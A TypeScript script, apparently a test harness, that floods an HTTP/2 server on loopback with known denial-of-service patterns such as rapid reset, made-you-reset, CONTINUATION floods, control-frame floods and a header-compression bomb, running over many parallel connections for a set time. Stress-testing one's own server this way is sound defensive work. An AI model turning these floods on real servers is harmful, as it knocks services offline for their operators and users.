/**
 * A process that floods an HTTP/2 port of loopback: `node http2-flooder.ts PORT KIND SECONDS CONNECTIONS`. Comes back at once
 * when it is thrown out.
 */
import { once } from 'node:events';
import { setPriority } from 'node:os';
import { connect } from 'node:tls';
import {
  block,
  dataFrame,
  flags,
  FrameClient,
  frame,
  frameTypes,
  headersFrame,
  request,
  resetFrame,
  settingsFrame,
  windowFrame,
  words,
} from './http2-frames.ts';

/** What a flood says first, and then again and again; `stream` is the next number that is free. */
interface Flood {
  readonly first?: Buffer;
  next(stream: number): { readonly bytes: Buffer; readonly streams: number };
}

function again(bytes: Buffer, times: number, first?: Buffer): Flood {
  const poured = { bytes: Buffer.concat(Array.from({ length: times }, () => bytes)), streams: 0 };
  return { ...(first === undefined ? {} : { first }), next: () => poured };
}

function perStream(count: number, parts: (stream: number) => readonly Buffer[]): Flood {
  return {
    next: (stream) => ({
      bytes: Buffer.concat(Array.from({ length: count }, (_, index) => parts(stream + 2 * index)).flat()),
      streams: count,
    }),
  };
}

const open = headersFrame(1, request({ ':method': 'POST' }), false);
const head = frame(frameTypes.headers, 0, 1, block(request()));

export const floods: Readonly<Record<string, Flood>> = {
  'rapid-reset': perStream(50, (stream) => [headersFrame(stream, request()), resetFrame(stream, 8)]),
  'made-you-reset': perStream(50, (stream) => [headersFrame(stream, request()), windowFrame(stream, 0)]),
  malformed: perStream(50, (stream) => [headersFrame(stream, request({}, [['connection', 'x']]))]),
  continuation: again(frame(frameTypes.continuation, 0, 1, block([['x', 'y']])), 50, head),
  ping: again(frame(frameTypes.ping, 0, 0, words(1, 2)), 500),
  settings: again(settingsFrame([3, 100]), 500),
  'window-update': again(windowFrame(0, 1), 500),
  priority: again(frame(frameTypes.priority, 0, 1, Buffer.from([0, 0, 0, 3, 10])), 500),
  unknown: again(frame(0x77, 0, 0, words(1)), 500),
  'empty-data': again(dataFrame(1, ''), 500, open),
  resets: again(resetFrame(1, 8), 500, Buffer.concat([open, resetFrame(1, 8)])),
  bomb: perStream(1, (stream) => [
    frame(
      frameTypes.headers,
      flags.endHeaders | flags.endStream,
      stream,
      Buffer.concat([
        block(request()),
        Buffer.from([0x40, 1, 0x78, 0x7f, 0x80 + 0x21, 0x1a]),
        Buffer.alloc(3488, 0x61),
        Buffer.alloc(12_000, 0xbe),
      ]),
    ),
  ]),
};

async function attack(port: number, flood: Flood, until: number): Promise<void> {
  while (performance.now() < until) {
    const socket = connect({
      host: '127.0.0.1',
      port,
      servername: 'localhost',
      ALPNProtocols: ['h2'],
      rejectUnauthorized: false,
    });
    socket.on('error', () => {});
    const came = await Promise.race([
      once(socket, 'secureConnect').then(() => true),
      once(socket, 'close').then(() => false),
    ]).catch(() => false);
    if (!came) continue;
    const client = new FrameClient(socket).begin();
    if (flood.first !== undefined) client.send(flood.first);
    for (let stream = flood.first === undefined ? 1 : 3; performance.now() < until; ) {
      const { bytes, streams } = flood.next(stream);
      stream += 2 * streams;
      client.frames.length = 0;
      if (!(await client.pour(bytes))) break;
    }
    socket.destroy();
  }
}

const [port, kind, seconds, connections] = process.argv.slice(2);
if (port !== undefined) {
  const flood = floods[kind ?? ''];
  if (flood === undefined) throw new Error(`no flood ${kind}`);
  // The flood is what is measured, not who gets the processor.
  setPriority(10);
  const lasts = Number(seconds) * 1000;
  const until = performance.now() + lasts;
  for (let attacker = 0; attacker < Number(connections); attacker++) void attack(Number(port), flood, until);
  // Who does not read us keeps us waiting: an attack ends all the same.
  setTimeout(() => process.exit(0), lasts);
}
